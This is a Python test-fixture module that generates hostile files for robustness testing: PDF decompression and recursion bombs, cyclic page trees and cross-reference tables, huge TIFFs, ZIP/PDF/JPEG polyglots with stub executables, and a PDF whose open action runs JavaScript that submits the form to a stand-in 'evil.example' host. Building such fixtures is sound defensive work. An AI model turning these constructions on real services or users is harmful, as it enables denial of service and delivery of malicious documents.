"""Hostile files, made on the fly (nothing downloaded): malformed and booby-trapped PDFs, TIFFs and images,
polyglots. Each is small on disk; the bombs only become large if something expands them."""
from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pypdf
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from PIL import Image

from tests.samples import form_text
from tests.scans import text_pdf_bytes
from tests.testdata import _serialise

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R%s >>"


def _one_page(content: bytes, *extra: bytes, resources: bytes = b"") -> bytes:
    return _serialise([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                       PAGE % resources, content, *extra], root=1)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def flate_bomb_pdf(expands_to: int = 4 << 30) -> bytes:
    """One page whose content stream inflates to `expands_to` bytes of spaces (4 GB from about 4 MB):
    one deflate block of a megabyte, repeated (each ends on a full flush, so copies chain)."""
    chunk = 1 << 20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b" " * chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    data = b"\x78\xda" + block * (expands_to // chunk) + end + b"\0\0\0\0"  # the checksum is never reached
    return _one_page(_stream(data, b" /Filter /FlateDecode"))


def endless_drawing_pdf(depth: int = 10) -> bytes:
    """A page drawing a form that draws the next one four times, `depth` deep: 4^depth strokes
    from a few kilobytes (the PDF cousin of "billion laughs"). Depth 10 takes pdfium tens of seconds."""
    forms = []
    for level in range(depth):
        number = 5 + level
        if level == depth - 1:
            forms.append(_stream(b"0 0 m 100 100 l S", b" /Type /XObject /Subtype /Form /BBox [0 0 595 842]"))
        else:
            forms.append(_stream(b"/X Do /X Do /X Do /X Do", b" /Type /XObject /Subtype /Form /BBox [0 0 595 842]"
                                 b" /Resources << /XObject << /X %d 0 R >> >>" % (number + 1)))
    return _one_page(_stream(b"/X Do"), *forms, resources=b" /Resources << /XObject << /X 5 0 R >> >>")


def huge_page_count_pdf(pages: int = 1_000_000) -> bytes:
    """A page tree claiming a million pages: one leaf, referenced from a Kids array a million times."""
    kids = b"3 0 R " * pages
    return _serialise([b"<< /Type /Catalog /Pages 2 0 R >>",
                       b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
                       PAGE % b"", _stream(b"0 0 m 10 10 l S")], root=1)


def huge_mediabox_pdf() -> bytes:
    """A 14,400 × 14,400 pt page (200 × 200 in): over the pixel limit even at 72 dpi."""
    return _serialise([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R >>",
                       _stream(b"0 0 m 100 100 l S")], root=1)


def cyclic_page_tree_pdf() -> bytes:
    """The page tree lists itself among its kids."""
    return _serialise([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
                       PAGE % b"", _stream(b"0 0 m 100 100 l S")], root=1)


def cyclic_xref_pdf(tmp: Path) -> bytes:
    """A text PDF whose cross-reference section points back at itself as its previous section (/Prev)."""
    data = text_pdf_bytes([form_text(61)], tmp)
    xref_at = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return data.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % xref_at, 1)


def self_extending_object_stream_pdf() -> bytes:
    """The catalog and page tree live in an object stream that /Extends itself, behind an xref stream."""
    inner = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE % b""]
    offsets, body = [], b""
    for obj in inner:
        offsets.append(len(body))
        body += obj + b"\n"
    index = b" ".join(b"%d %d" % (n, off) for n, off in zip((1, 2, 3), offsets)) + b"\n"
    objstm = _stream(index + body, b" /Type /ObjStm /N 3 /First %d /Extends 5 0 R" % len(index))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at4 = len(out)
    out += b"4 0 obj\n" + _stream(b"0 0 m 100 100 l S") + b"\nendobj\n"
    at5 = len(out)
    out += b"5 0 obj\n" + objstm + b"\nendobj\n"
    at6 = len(out)
    rows = [(0, 0, 65535), (2, 5, 0), (2, 5, 1), (2, 5, 2), (1, at4, 0), (1, at5, 0), (1, at6, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"6 0 obj\n" + _stream(table, b" /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % at6
    return bytes(out)


def broken_xref_pdf(tmp: Path) -> bytes:
    """A text PDF whose cross-reference offsets all point to the wrong place (readers rebuild it)."""
    data = text_pdf_bytes([form_text(62)], tmp)
    return re.sub(rb"\d{10} 00000 n", b"0000000009 00000 n", data)


def _with_extras(tmp: Path, seed: int, *, javascript: bool = False, attachment: bool = False) -> bytes:
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(text_pdf_bytes([form_text(seed)], tmp))))
    if javascript:  # in the document's JavaScript name tree and as the action on opening
        script = writer._add_object(DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('你的电脑已被控制'); this.submitForm('http://evil.example/');")}))
        writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("evil"), script])})})
        writer.root_object[NameObject("/OpenAction")] = script
    if attachment:
        writer.add_attachment("payload.exe", b"MZ\x90\x00" + b"\0" * 60)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def javascript_pdf(tmp: Path) -> bytes:
    return _with_extras(tmp, 63, javascript=True)


def embedded_file_pdf(tmp: Path) -> bytes:
    return _with_extras(tmp, 64, attachment=True)


def tiff_frames(count: int = 10_000) -> bytes:
    """A TIFF of `count` 1×1 bitonal pages, written directly (Pillow takes seconds for this many)."""
    out = bytearray(b"II*\x00\x08\x00\x00\x00")
    entries = 8
    ifd_size = 2 + entries * 12 + 4
    first = len(out)
    for n in range(count):
        at = first + n * (ifd_size + 1)
        pixel = at + ifd_size
        nxt = 0 if n == count - 1 else at + ifd_size + 1
        tags = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 0),
                (273, 4, 1, pixel), (278, 3, 1, 1), (279, 4, 1, 1)]
        out += struct.pack("<H", entries)
        for tag, kind, cnt, value in tags:
            out += struct.pack("<HHII", tag, kind, cnt, value) if kind == 4 else struct.pack("<HHIHH", tag, kind, cnt,
                                                                                              value, 0)
        out += struct.pack("<I", nxt) + b"\x80"
    return bytes(out)


def cyclic_tiff() -> bytes:
    """A one-page TIFF whose directory names itself as the next page."""
    data = bytearray(tiff_frames(1))
    data[8 + 2 + 8 * 12: 8 + 2 + 8 * 12 + 4] = struct.pack("<I", 8)
    return bytes(data)


def png(width: int, height: int) -> bytes:
    buf = io.BytesIO()
    Image.new("L", (width, height), 255).save(buf, "PNG")
    return buf.getvalue()


def _zip(name: str, content: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr(name, content)
    return buf.getvalue()


def zip_then_pdf(tmp: Path) -> bytes:
    """Starts as a ZIP (what unzip sees) and carries a PDF header within its first kilobyte."""
    return _zip("readme.txt", b"%PDF-1.4 hidden") + text_pdf_bytes([form_text(65)], tmp)


def pdf_then_zip(tmp: Path) -> bytes:
    """A real PDF with a ZIP appended: a PDF reader reads the PDF, unzip finds the archive."""
    return text_pdf_bytes([form_text(66)], tmp) + _zip("invoice.exe", b"MZ" + b"\0" * 62)


def jpeg_then_zip() -> bytes:
    """A real JPEG with a ZIP appended (the classic image/archive polyglot)."""
    buf = io.BytesIO()
    Image.new("RGB", (300, 200), "white").save(buf, "JPEG")
    return buf.getvalue() + _zip("payload.js", b"alert(1)")
